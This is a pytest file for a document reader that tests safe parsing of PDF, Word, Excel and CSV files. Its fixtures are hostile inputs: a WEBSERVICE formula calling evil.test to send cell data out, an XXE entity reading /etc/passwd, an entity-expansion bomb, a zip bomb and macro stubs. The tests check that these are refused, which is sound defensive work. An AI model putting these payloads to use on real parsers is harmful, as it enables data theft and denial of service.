"""Real files of every kind are read in a process of their own; hostile ones end in words."""

import asyncio
import io
import os
import zipfile
from itertools import pairwise
from pathlib import Path

import pypdf
import pytest

from core.debate.evidence import SourceText
from core.errors import BadInput
from core.evidence.reading import FileReader
from core.settings import EvidenceLimits
from tests.core.evidence.office import (
    a_pdf,
    a_word_file,
    an_excel_file,
    with_entries,
)
from tests.core.evidence.scarce import files_left

LIMITS = EvidenceLimits()


async def read(content: bytes, name: str = "file", limits: EvidenceLimits = LIMITS) -> SourceText:
    return await FileReader(limits).read(content, name)


def marked(source: SourceText) -> list[tuple[str, str]]:
    """Each mark's label with the text up to the next one."""
    lines = source.text.split("\n")
    ends = [*(mark.line for mark in source.marks), len(lines) + 1]
    return [
        (mark.label, "\n".join(lines[start - 1 : end - 1]).strip())
        for mark, (start, end) in zip(source.marks, pairwise(ends), strict=True)
    ]


async def refusal(content: bytes, name: str = "file", limits: EvidenceLimits = LIMITS) -> str:
    with pytest.raises(BadInput) as refused:
        await read(content, name, limits)
    return str(refused.value)


async def test_a_pdf_is_read_by_page() -> None:
    text = await read(a_pdf(["The queue took 2,000 jobs/s.", "It costs (about) $960.\nSecond."]))
    assert marked(text) == [
        ("page 1", "The queue took 2,000 jobs/s."),
        ("page 2", "It costs (about) $960.\nSecond."),
    ]


async def test_word_is_read_by_section_with_tables() -> None:
    text = await read(a_word_file())
    assert marked(text) == [
        ("beginning", "Prepared for the platform team."),
        (
            "section “Cost”",
            "# Cost\n\nThe managed offer costs $1,840 per month.\n\nVendor | Price\nNorthwind | 960",  # noqa: E501
        ),
        ("section “Risks”", "## Risks\n\nNobody has run it before."),
    ]


async def test_excel_is_read_by_sheet_and_row_with_values_not_formulas() -> None:
    text = await read(an_excel_file('=WEBSERVICE("https://evil.test/?"&B2)'))
    assert marked(text) == [
        ("sheet Load", "Month | Jobs\nMarch | 2000\nApril | 2500.5\n | 24000"),
        ("sheet Notes", "Peak on Mondays"),
    ]
    # The n-th line of a sheet is its row n.
    notes = text.text.split("\n")[text.marks[1].line - 1 :]
    assert notes[4] == "Peak on Mondays"


async def test_the_first_line_of_csv_heads_it_and_rows_are_counted() -> None:
    text = await read(b"month,jobs\nMarch,2000\n", "load.csv")
    assert text.text == "# month,jobs\nMarch,2000"
    assert text.marks[0].counts == "row"


async def test_secrets_are_redacted_and_invisible_signs_left_out() -> None:
    text = await read("key sk-proj-abcdefghijklmnop1234567890 a\u200bb\u202e".encode())
    assert text.text == "key [redacted] ab"


async def test_a_name_does_not_decide_what_a_file_is() -> None:
    assert (await read(a_pdf(["In disguise"]), "notes.txt")).text == "In disguise"
    assert await refusal(b"\x89PNG\r\n\x1a\n" + os.urandom(100), "notes.pdf") == (
        "it is a picture, and only text can be read"
    )


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "it is empty"),
        (b"   \n", "it holds no text"),
        (b"%PDF-1.7\ngarbage", "damaged"),
        (a_pdf([" "]), "it holds no text; page 1: no text (a scan?)"),
        (b"PK\x03\x04garbage", "damaged"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old Office file"),
        (bytes(range(256)) * 50, "no text"),
        (b"\x7fELF\x02\x01", "a program"),
        (a_word_file()[:-400], "damaged"),
        (with_entries(a_word_file(), {"word/vbaProject.bin": b"Sub AutoOpen()"}), "macros"),
        (with_entries(an_excel_file(), {"xl/vbaProject.bin": b"Sub AutoOpen()"}), "macros"),
        (with_entries(a_word_file(), {"word/document.xml": b"<w:broken"}), "damaged"),
    ],
)
async def test_what_cannot_be_read_is_said(content: bytes, words: str) -> None:
    assert words in await refusal(content)


def an_archive(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


async def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = an_archive("word/document.xml", bytes(310_000_000))
    assert len(bomb) < 1_000_000
    assert await refusal(bomb) == "it is too large once unpacked"


BOMB = b"""<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "ha">%s]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&a40;</w:t></w:r></w:p></w:body></w:document>""" % b"".join(
    b'<!ENTITY a%d "&a%d;&a%d;">' % (n, n - 1, n - 1) for n in range(1, 41)
)
OUTSIDE = b"""<?xml version="1.0"?><!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>before &f; after</w:t></w:r></w:p></w:body></w:document>"""


@pytest.mark.parametrize("part", ["word/document.xml"])
@pytest.mark.parametrize("xml", [BOMB, OUTSIDE], ids=["bomb", "outside"])
async def test_xml_cannot_grow_nor_reach_out(part: str, xml: bytes) -> None:
    file = with_entries(a_word_file(), {part: xml})
    try:
        words = (await read(file)).text
    except BadInput as refused:
        words = str(refused)
    assert "root:" not in words
    assert len(words) < 1000


async def test_a_locked_pdf_is_refused_and_an_open_encrypted_one_read() -> None:
    for password, expected in (("secret", "it has a password"), ("", "")):
        writer = pypdf.PdfWriter(io.BytesIO(a_pdf(["Locked words"])))
        writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-256")
        out = io.BytesIO()
        writer.write(out)
        if expected:
            assert await refusal(out.getvalue()) == expected
        else:
            assert (await read(out.getvalue())).text == "Locked words"


async def test_only_so_many_pages_are_read() -> None:
    text = await read(a_pdf([f"Page {n}" for n in range(5000)]))
    assert text.marks[-1].label == "page 500"
    assert text.warnings == ("only the first 500 of 5,000 pages were read",)


async def test_only_so_many_characters_are_kept() -> None:
    text = await read(b"word " * 1000, limits=EvidenceLimits(characters=100))
    assert len(text.text) == 100
    assert text.warnings == ("only the first 100 characters were read",)


async def test_a_file_that_is_too_large_is_refused_unread() -> None:
    limits = EvidenceLimits(file_bytes=1000)
    assert await refusal(b"x" * 1_500_000, limits=limits) == "it has 1.5 MB, and the most is 1 kB"


async def test_reading_has_an_end_in_time_and_memory() -> None:
    slow = a_pdf(["\n".join(f"line {n}" for n in range(2000))] * 400)
    began = asyncio.get_running_loop().time()
    # All pages have to be read: the first few, with the usual number of characters, take a second.
    limits = EvidenceLimits(seconds=1, characters=100_000_000)
    assert await refusal(slow, limits=limits) == "reading it takes too long"
    assert asyncio.get_running_loop().time() - began < 30
    sheet = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    sheet += b'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
    sheet += b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
    huge = with_entries(an_excel_file(), {"xl/worksheets/sheet1.xml": sheet})
    limits = EvidenceLimits(memory_bytes=300_000_000, seconds=5)
    assert "too" in await refusal(huge, limits=limits)


async def test_no_file_blocks_the_others() -> None:
    """While a large PDF is read, the loop comes round all the time."""
    large = a_pdf([f"Page {n} " + "lorem ipsum " * 500 for n in range(60)])
    large += b"%" + os.urandom(10_000_000 - len(large))
    reading = asyncio.create_task(read(large))
    rounds = 0
    while rounds <= 10 and not reading.done():
        await asyncio.sleep(0)  # rounds are counted, not seconds
        rounds += 1
    assert "Page 59" in (await reading).text
    assert rounds > 10  # read here, it would be one


async def test_a_cancelled_reading_leaves_no_process() -> None:
    slow = a_pdf(["\n".join(f"line {n}" for n in range(2000))] * 400)
    reading = asyncio.create_task(read(slow))
    async with asyncio.timeout(300):
        while not readers_running():
            assert not reading.done()
            await asyncio.sleep(0.01)
    reading.cancel()
    with pytest.raises(asyncio.CancelledError):
        await reading
    assert not readers_running()


def readers_running() -> list[str]:
    """The reading processes that this one has started and that still run (Linux)."""
    listed = Path(f"/proc/self/task/{os.getpid()}/children")
    children = listed.read_text(encoding="ascii").split() if listed.exists() else []
    return [
        child for child in children if b"in_sandbox" in Path(f"/proc/{child}/cmdline").read_bytes()
    ]


async def test_where_no_process_can_be_started_one_file_fails_in_words() -> None:
    reader = FileReader(LIMITS)
    with files_left(0), pytest.raises(BadInput) as refused:
        await reader.read(b"Words.", "notes.txt")

    assert str(refused.value) == (
        "Moot cannot start the process that reads files (Too many open files)"
    )
    assert (await reader.read(b"Words.", "notes.txt")).text == "Words."
